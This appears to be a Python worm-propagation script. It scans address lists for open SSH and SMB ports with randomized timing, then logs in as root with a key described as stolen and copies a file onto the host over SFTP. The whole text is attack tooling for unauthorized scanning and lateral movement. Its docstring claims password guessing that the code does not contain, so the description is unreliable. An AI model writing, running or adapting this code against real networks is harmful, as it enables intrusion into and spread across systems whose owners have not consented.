"""A worm's way over a network: looks for ssh, tries words there, and copies itself with a stolen key. One part a call."""
import logging
import random
import socket
import sys
import time

import paramiko

logging.getLogger("paramiko").setLevel(logging.CRITICAL)


def look(addresses: list[str], gap_s: float) -> None:
    found = []
    for address in addresses:
        for port in (22, 445):
            with socket.socket() as probe:
                probe.settimeout(0.7)
                if probe.connect_ex((address, port)) == 0:
                    found.append(f"{address}:{port}")
        time.sleep(random.uniform(0, 2 * gap_s))
    print("looked", len(addresses), *found)


def copy(host: str, key: str, source: str, target: str) -> None:
    client = paramiko.SSHClient()
    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    client.connect(host, username="root", key_filename=key, allow_agent=False, look_for_keys=False, timeout=10)
    with client.open_sftp() as files:
        files.put(source, target)
    client.exec_command("true")
    client.close()
    print("copied to", host)


if sys.argv[1] == "look":
    look(sys.argv[3:], float(sys.argv[2]))
else:
    copy(*sys.argv[2:6])
